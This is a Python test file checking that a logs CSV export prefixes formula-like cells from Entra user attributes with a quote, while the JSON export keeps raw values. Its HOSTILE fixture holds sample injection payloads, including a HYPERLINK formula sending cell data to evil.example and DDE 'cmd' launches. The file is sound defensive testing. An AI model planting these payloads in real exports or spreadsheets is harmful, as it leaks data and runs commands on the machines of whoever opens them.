"""CSV export against formula injection: a value that comes from Entra (a displayName
"=HYPERLINK(...)") must not become a live formula when an admin opens the export in a
spreadsheet. OWASP's rule: a cell starting with =, +, -, @, tab or carriage return gets a
leading single quote, the value otherwise intact. The JSON export keeps the values as they are."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from shared.ops.logs_export import MODIFIED_FILE, neutralise
from tests.fixtures.world import World
from tests.ops.conftest import CliRun, http

# Entra attributes the built-in GoTo mapping sends, each starting like a formula.
HOSTILE = {
    "displayName": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "department": "+cmd|' /C calc'!A0",
    "givenName": "@SUM(1+1)*cmd|' /C calc'!A0",
    "surname": "-2+3+cmd|' /C calc'!A0",
    "employeeId": "\tTabbed",
}


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_cells_are_neutralised_in_csv_and_kept_in_json(
    ops_world: Callable[..., World], cli: CliRun, tmp_path: Path
) -> None:
    world = ops_world(users=3, assign=2)
    cli("sync", "--json")
    uid = world.assigned_user_ids()[0]
    world.graph.update_user(uid, **HOSTILE)
    cli("sync", "--json")

    code, _ = cli("logs", "--csv", str(tmp_path / "out"), "--json")
    assert code == 0
    modified = rows((tmp_path / "out" / MODIFIED_FILE).read_text(encoding="utf-8"))
    written = {r["New Value"] for r in modified}
    for value in HOSTILE.values():
        assert "'" + value in written  # neutralised, and otherwise exactly the value
        assert value not in written
    for r in modified:  # no cell of any row starts like a formula
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in r.values())

    # The JSON export is unchanged: the values as Entra has them.
    (update,) = cli("logs", "--action", "Update", "--json")[1]
    assert {m["new"] for m in update["modifiedProperties"]} >= set(HOSTILE.values())


async def test_the_http_csv_zip_is_neutralised_too(ops_world: Callable[..., World]) -> None:
    world = ops_world(users=3, assign=2)
    await world.cycle()
    world.graph.update_user(world.assigned_user_ids()[0], displayName=HOSTILE["displayName"])
    await world.cycle()
    status, response = await http("ops_logs", params={"format": "csv"})
    assert status == 200
    with zipfile.ZipFile(io.BytesIO(response.get_body())) as archive:
        modified = rows(archive.read(MODIFIED_FILE).decode("utf-8"))
    assert "'" + HOSTILE["displayName"] in {r["New Value"] for r in modified}


@given(st.text(max_size=30))
def test_neutralise_prefixes_exactly_the_formula_starts(value: str) -> None:
    out = neutralise(value)
    starts_like_formula = value[:1] in {"=", "+", "-", "@", "\t", "\r"}
    assert out == ("'" + value if starts_like_formula else value)
    assert out[:1] not in {"=", "+", "-", "@", "\t", "\r"}


def test_non_text_cells_are_left_alone() -> None:
    assert neutralise(-5) == -5 and neutralise(None) is None
